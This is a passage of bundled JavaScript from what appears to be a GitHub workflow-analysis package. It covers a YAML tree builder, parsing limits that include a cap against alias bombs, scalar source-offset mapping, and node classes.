    return { start: 0, end: 0, message: error instanceof RangeError ? "nested too deeply" : String(error) };
}
/** By the number of js-yaml's style. */
const STYLES = {
    [js_yaml/* SCALAR_STYLE */.jK.PLAIN]: "plain",
    [js_yaml/* SCALAR_STYLE */.jK.SINGLE_QUOTED]: "single",
    [js_yaml/* SCALAR_STYLE */.jK.DOUBLE_QUOTED]: "double",
    [js_yaml/* SCALAR_STYLE */.jK.LITERAL_BLOCK]: "literal",
    [js_yaml/* SCALAR_STYLE */.jK.FOLDED_BLOCK]: "folded",
};
/** Mappings of more keys look for doubles by hash. */
const FEW_KEYS = 12;
/**
 * Makes nodes of events. The hot path of the whole analysis: it allocates nothing but the nodes, and keeps what a value
 * carries beside its node (`alias`, `weight`) in fields.
 */
class TreeBuilder {
    file;
    events;
    index = 0;
    /** The end of the last token read: gaps begin here. */
    lastEnd = 0;
    /** The alias that the last value was written as. */
    alias = null;
    /** Nodes so far, aliases unfolded. */
    weight = 0;
    anchors = new Map();
    problems = [];
    scalars = [];
    constructor(file, events) {
        this.file = file;
        this.events = events;
    }
    build() {
        const root = this.documents();
        if (this.weight > limits/* MAX_UNFOLDED_NODES */.xu) {
            const message = `it has more than ${limits/* MAX_UNFOLDED_NODES */.xu} nodes, aliases unfolded`;
            return new yaml_document/* LazyDocument */.m(this.file, undefined, [{ start: 0, end: 0, message }], () => this.scalars);
        }
        const isNothing = root?.kind === "scalar" && root.isEmpty;
        return new yaml_document/* LazyDocument */.m(this.file, isNothing ? undefined : root, this.problems, () => this.scalars);
    }
    /** The root of the first document; a second one is a problem. */
    documents() {
        let root;
        while (this.index < this.events.length) {
            const event = this.events[this.index++];
            if (event.type !== js_yaml/* EVENT_ID */.hy.DOCUMENT || this.atPop)
                continue;
            if (root) {
                const marker = Math.max(this.lastEnd, this.file.text.indexOf("---", this.lastEnd));
                this.problem(marker, marker, "a second YAML document: GitHub reads only one a file");
                break;
            }
            root = this.value();
        }
        return root;
    }
    value() {
        const event = this.events[this.index++];
        this.alias = null;
        switch (event.type) {
            case js_yaml/* EVENT_ID */.hy.SCALAR: {
                this.weight++;
                const node = this.scalar(event);
                if (event.anchorStart >= 0)
                    this.anchors.set(this.nameOf(event), { node, weight: 1 });
                return node;
            }
            case js_yaml/* EVENT_ID */.hy.SEQUENCE:
            case js_yaml/* EVENT_ID */.hy.MAPPING:
                return this.collection(event);
            case js_yaml/* EVENT_ID */.hy.ALIAS:
                return this.aliased(event);
            default:
                return this.emptyScalar(this.lastEnd);
        }
    }
    collection(event) {
        const before = this.weight++;
        this.lastEnd = Math.max(this.lastEnd, event.start, event.anchorEnd, event.tagEnd);
        const name = event.anchorStart >= 0 ? this.nameOf(event) : null;
        // Known while it is open, so that an alias to it inside itself can be told from one to nothing.
        if (name !== null)
            this.anchors.set(name, null);
        const node = event.type === js_yaml/* EVENT_ID */.hy.SEQUENCE ? this.sequence(event) : this.mapping(event);
        if (name !== null)
            this.anchors.set(name, { node, weight: this.weight - before });
        this.alias = null;
        return node;
    }
    aliased(event) {
        const name = this.nameOf(event);
        const span = { start: event.anchorStart - 1, end: event.anchorEnd };
        this.lastEnd = event.anchorEnd;
        this.alias = span;
        const target = this.anchors.get(name);
        if (target) {
            this.weight += target.weight;
            return target.node;
        }
        const why = target === null ? "stands inside the node it names" : "names no anchor above it";
        this.problem(span.start, span.end, `the alias \`*${name}\` ${why}`);
        return this.emptyScalar(span.end);
    }
    nameOf(event) {
        return this.file.text.slice(event.anchorStart, event.anchorEnd);
    }
    scalar(event) {
        const propertiesEnd = Math.max(this.lastEnd, event.anchorEnd, event.tagEnd);
        if (event.valueStart < 0)
            return this.emptyScalar(this.afterIndicator(propertiesEnd));
        const style = STYLES[event.style];
        const start = this.startOf(event, style, propertiesEnd);
        const end = style === "single" || style === "double" ? event.valueEnd + 1 : event.valueEnd;
        const node = new nodes/* YamlScalar */.Q0(this.file, start, end, style, event.valueStart, event.valueEnd, event.tagStart < 0 ? "" : this.file.text.slice(event.tagStart, event.tagEnd), event.fast ? null : decodeEvent, event.fast ? null : event);
        this.scalars.push(node);
        this.lastEnd = end;
        return node;
    }
    /** Quotes and block headers stand before what the event calls the value. */
    startOf(event, style, propertiesEnd) {
        if (style === "plain")
            return event.valueStart;
        if (style === "single" || style === "double")
            return event.valueStart - 1;
        const header = (0,gaps/* findIndicator */.H)(this.file.text, propertiesEnd, event.valueStart, "|>");
        return header === -1 ? event.valueStart : header;
    }
    emptyScalar(at) {
        return new nodes/* YamlScalar */.Q0(this.file, at, at, "plain", at, at, "", null, null);
    }
    /** The place right after the `:` or `-` that a missing value follows. */
    afterIndicator(from) {
        const text = this.file.text;
        let at = from;
        while (text[at] === " " || text[at] === "\t")
            at++;
        return text[at] === ":" || text[at] === "-" ? at + 1 : from;
    }
    get atPop() {
        const event = this.events[this.index];
        return event === undefined || event.type === js_yaml/* EVENT_ID */.hy.POP;
    }
    close(isFlow, bracket) {
        this.index++;
        if (isFlow) {
            const at = (0,gaps/* findIndicator */.H)(this.file.text, this.lastEnd, this.file.text.length, bracket);
            if (at !== -1)
                this.lastEnd = at + 1;
        }
        return this.lastEnd;
    }
    sequence(event) {
        const items = [];
        while (!this.atPop) {
            const value = this.value();
            items.push({ value, alias: this.alias });
        }
        const isFlow = event.style === js_yaml/* COLLECTION_STYLE */.Rl.FLOW;
        return new nodes/* YamlSeq */.nJ(this.file, event.start, this.close(isFlow, "]"), isFlow, items);
    }
    mapping(event) {
        const entries = [];
        while (!this.atPop) {
            const key = this.key();
            const value = this.value();
            entries.push({ key, value, alias: this.alias });
        }
        this.checkKeys(entries);
        const isFlow = event.style === js_yaml/* COLLECTION_STYLE */.Rl.FLOW;
        return new nodes/* YamlMap */._M(this.file, event.start, this.close(isFlow, "}"), isFlow, entries);
    }
    key() {
        const node = this.value();
        if (node.kind === "scalar")
            return node;
        this.problem(node.start, node.end, "a mapping or sequence stands where a key is expected");
        return new nodes/* YamlScalar */.Q0(this.file, node.start, node.end, "plain", node.start, node.end, "", null, null);
    }
    checkKeys(entries) {
        const seen = entries.length > FEW_KEYS ? new Set() : null;
        for (let i = 0; i < entries.length; i++) {
            const { key } = entries[i];
            const name = key.value;
            if (name === "<<" && key.style === "plain") {
                this.problem(key.start, key.end, "GitHub has no merge keys: `<<` is refused");
            }
            else if (seen ? seen.has(name) : isAmong(entries, name, i)) {
                this.problem(key.start, key.end, `the key \`${name}\` stands twice in this mapping`);
            }
            seen?.add(name);
        }
    }
    problem(start, end, message) {
        this.problems.push({ start, end, message });
    }
}
/** Is it the name of one of the first `count` keys? */
function isAmong(entries, name, count) {
    for (let i = 0; i < count; i++)
        if (entries[i].key.value === name)
            return true;
    return false;
}
function decodeEvent(text, raw) {
    return (0,js_yaml/* getScalarValue */.KE)(text, raw);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/yaml/index.js







/***/ }),

/***/ 8232:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   _4: () => (/* binding */ MAX_FALLBACK_BYTES),
/* harmony export */   gZ: () => (/* binding */ MAX_FILE_BYTES),
/* harmony export */   lr: () => (/* binding */ MAX_DEPTH),
/* harmony export */   xu: () => (/* binding */ MAX_UNFOLDED_NODES)
/* harmony export */ });
/** Larger files are not read: GitHub's own limit for a workflow is far below (512 KiB). */
const MAX_FILE_BYTES = 5 * 1024 * 1024;
/** Deeper nesting is refused; real workflows stay below 20. */
const MAX_DEPTH = 100;
/** Nodes of a file, its aliases unfolded: an alias bomb passes it, real files stay below a tenth. */
const MAX_UNFOLDED_NODES = 100_000;
/** The `yaml` library reads what the fast front end refuses, up to here: broken input costs it seconds a megabyte. */
const MAX_FALLBACK_BYTES = 128 * 1024;


/***/ }),

/***/ 5655:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  _M: () => (/* binding */ YamlMap),
  Q0: () => (/* binding */ YamlScalar),
  nJ: () => (/* binding */ YamlSeq)
});

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/core-schema.js
var core_schema = __webpack_require__(5891);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/yaml/scalar-offsets.js
/**
 * For each character of a scalar's value, the offset in the file at which it is written; past its end, the content's end.
 *
 * Decoding a scalar drops indentation, folds lines and resolves escapes (YAML 1.2.2, chapters 7 and 8), but keeps the
 * order of everything that is not white space: so the value and its source are walked side by side.
 */
function offsetsOf(text, source, value) {
    if (isVerbatim(text, source, value))
        return (index) => Math.min(source.contentStart + index, source.contentEnd);
    if (source.style === "literal")
        return literalOffsets(text, source, value);
    const offsets = new Int32Array(value.length);
    if (source.style === "double")
        walkDoubleQuoted(text, source, value, offsets);
    else
        walkFolded(text, source, value, offsets);
    return (index) => offsets[index] ?? source.contentEnd;
}
/** How many characters of the source stand for the one at `offset`: escapes and doubled quotes are longer. */
function sourceLength(text, source, offset) {
    if (source.style === "single")
        return text[offset] === "'" ? 2 : 1;
    if (source.style === "double" && text[offset] === "\\")
        return readEscape(text, offset).length;
    return 1;
}
function isVerbatim(text, source, value) {
    return source.contentEnd - source.contentStart === value.length && text.startsWith(value, source.contentStart);
}
/** Plain, single-quoted and folded scalars: white space may change, nothing else but `''`. */
function walkFolded(text, source, value, offsets) {
    let at = source.contentStart;
    const end = source.contentEnd;
    for (let i = 0; i < value.length; i++) {
        const code = value.charCodeAt(i);
        if (isSpace(code)) {
            offsets[i] = Math.min(at, end);
            if (isSpace(text.charCodeAt(at)) && at < end)
                at++;
            continue;
        }
        while (at < end && text.charCodeAt(at) !== code)
            at++;
        offsets[i] = Math.min(at, end);
        at++;
        if (code === 39 && source.style === "single" && text.charCodeAt(at) === 39)
            at++;
    }
}
/** Literal block scalars: each line loses the block's indentation, and CRLF becomes LF. So lines are all there is to know. */
function literalOffsets(text, source, value) {
    const starts = [];
    /** By line: where it is written, and the line break behind it. */
    const written = [];
    let at = source.contentStart;
    for (let i = 0; i < value.length;) {
        const lineEnd = value.indexOf("\n", i);
        const stop = lineEnd === -1 ? value.length : lineEnd;
        const end = endOfLine(text, at, source.contentEnd);
        starts.push(i);
        written.push({ start: Math.max(at, end - (stop - i)), end });
        i = stop + 1;
        at = afterLineBreak(text, end);
    }
    return (index) => {
        if (index >= value.length)
            return source.contentEnd;
        const line = lastAtMost(starts, index);
        const { start, end } = written[line];
        return Math.min(start + index - starts[line], end);
    };
}
/** The position of the last number that is at most `wanted`, in an ascending list whose first is. */
function lastAtMost(ascending, wanted) {
    let low = 0;
    let high = ascending.length - 1;
    while (low < high) {
        const middle = (low + high + 1) >> 1;
        if (ascending[middle] <= wanted)
            low = middle;
        else
            high = middle - 1;
    }
    return low;
}
function walkDoubleQuoted(text, source, value, offsets) {
    let at = source.contentStart;
    let i = 0;
    const end = source.contentEnd;
    while (i < value.length && at < end) {
        const code = text.charCodeAt(at);
        if (code === 92) {
            const sequence = readEscape(text, at);
            for (let k = 0; k < sequence.units && i < value.length; k++)
                offsets[i++] = at;
            at += sequence.length;
        }
        else if (isSpace(code)) {
            const next = skipSpace(text, at, end);
            const isFolded = hasLineBreak(text, at, next);
            while (i < value.length && isSpace(value.charCodeAt(i)) && at < next) {
                offsets[i++] = at;
                if (!isFolded || at < next - 1)
                    at++;
            }
            at = next;
        }
        else {
            offsets[i++] = at++;
        }
    }
    while (i < value.length)
        offsets[i++] = end;
}
const HEX_ESCAPES = new Map([
    [120, 2],
    [117, 4],
    [85, 8],
]);
/** How long an escape is in the source, and how many UTF-16 units it gives (YAML 1.2.2, section 5.7). */
function readEscape(text, at) {
    const code = text.charCodeAt(at + 1);
    const digits = HEX_ESCAPES.get(code);
    if (digits !== undefined) {
        const point = Number.parseInt(text.slice(at + 2, at + 2 + digits), 16);
        return { length: 2 + digits, units: point > 0xffff ? 2 : 1 };
    }
    if (code === 10 || code === 13) {
        let end = afterLineBreak(text, at + 1);
        while (text.charCodeAt(end) === 32 || text.charCodeAt(end) === 9)
            end++;
        return { length: end - at, units: 0 };
    }
    return { length: 2, units: 1 };
}
function isSpace(code) {
    return code === 32 || code === 9 || code === 10 || code === 13;
}
function skipSpace(text, at, end) {
    let next = at;
    while (next < end && isSpace(text.charCodeAt(next)))
        next++;
    return next;
}
function hasLineBreak(text, start, end) {
    for (let i = start; i < end; i++) {
        const code = text.charCodeAt(i);
        if (code === 10 || code === 13)
            return true;
    }
    return false;
}
function endOfLine(text, start, end) {
    let at = start;
    while (at < end && text.charCodeAt(at) !== 10 && text.charCodeAt(at) !== 13)
        at++;
    return at;
}
function afterLineBreak(text, at) {
    if (text.charCodeAt(at) === 13 && text.charCodeAt(at + 1) === 10)
        return at + 2;
    return at + 1;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/yaml/nodes.js


class YamlScalar {
    file;
    start;
    end;
    style;
    contentStart;
    contentEnd;
    tag;
    decode;
    raw;
    kind = "scalar";
    // Plain properties: a file has thousands of scalars, and private names cost each of them.
    decoded = undefined;
    offsets = undefined;
    constructor(file, 
    /** With quotes; a block scalar begins at its `|` or `>`. */
    start, end, style, contentStart, contentEnd, 
    /** `!!str`, `!x` as written; empty when there is none. */
    tag, decode, raw) {
        this.file = file;
        this.start = start;
        this.end = end;
        this.style = style;
        this.contentStart = contentStart;
        this.contentEnd = contentEnd;
        this.tag = tag;
        this.decode = decode;
        this.raw = raw;
    }
    get isBlock() {
        return this.style === "literal" || this.style === "folded";
    }
    /** The decoded text, whatever its type: `on` and `yes` are the strings they look like. */
    get value() {
        if (this.decoded === undefined) {
            const text = this.file.text;
            this.decoded = this.decode ? this.decode(text, this.raw) : text.slice(this.contentStart, this.contentEnd);
        }
        return this.decoded;
    }
    /**
     * False where the value surely doesn't hold `part`, which has no white space in it: looked for in the source, so that
     * long scripts needn't be decoded for nothing.
     */
    mayContain(part) {
        return this.cheapText().includes(part);
    }
    /** The same for a pattern that spans no lines. */
    mayMatch(pattern) {
        return pattern.test(this.cheapText());
    }
    cheapText() {
        // Escapes can spell anything; a decoded value may as well be asked itself.
        const isDecoded = this.style === "double" || this.decoded !== undefined;
        return isDecoded ? this.value : this.file.text.slice(this.contentStart, this.contentEnd);
    }
    /** The value by the core schema of YAML 1.2 (section 10.3.2): only plain scalars can be anything but a string. */
    get typed() {
        return this.style === "plain" && this.tag === "" ? (0,core_schema/* resolveCore */.G)(this.value) : this.value;
    }
    get isNull() {
        return this.typed === null;
    }
    /** Nothing is written here: `key:` and then the next key. */
    get isEmpty() {
        return this.contentStart === this.contentEnd && this.style === "plain";
    }
    /** The file's range of the characters `start` to `end` (exclusive) of `value`. */
    spanOf(start, end) {
        this.offsets ??= offsetsOf(this.file.text, this, this.value);
        const from = this.offsets(start);
        const last = end > start ? this.offsets(end - 1) : from;
        const to = end > start ? last + sourceLength(this.file.text, this, last) : from;
        // A value may end with a line break that the file doesn't have.
        return { start: from, end: Math.max(from, Math.min(to, this.contentEnd)) };
    }
}
class YamlMap {
    file;
    start;
    end;
    flow;
    entries;
    kind = "map";
    constructor(file, start, end, flow, entries) {
        this.file = file;
        this.start = start;
        this.end = end;
        this.flow = flow;
        this.entries = entries;
    }
    /** The first entry of that key; YAML allows no second one, see `YamlDocument.problems`. */
    entry(key) {
        const entries = this.entries;
        for (let i = 0; i < entries.length; i++) {
            const entry = entries[i];
            if (entry.key.value === key)
                return entry;
        }
        return undefined;
    }
    get(key) {
        return this.entry(key)?.value;
    }
    scalar(key) {
        const node = this.get(key);
        return node?.kind === "scalar" ? node : undefined;
    }
    map(key) {
        const node = this.get(key);
        return node?.kind === "map" ? node : undefined;
    }
    seq(key) {
        const node = this.get(key);
        return node?.kind === "seq" ? node : undefined;
    }
    /** The text of a scalar that is not null. */
    text(key) {
        const node = this.scalar(key);
        return node && !node.isNull ? node.value : undefined;
    }
}
class YamlSeq {
    file;
    start;
    end;
    flow;
    items;
    kind = "seq";
    constructor(file, start, end, flow, items) {
        this.file = file;
        this.start = start;
        this.end = end;
        this.flow = flow;
        this.items = items;
    }
}


/***/ })

};
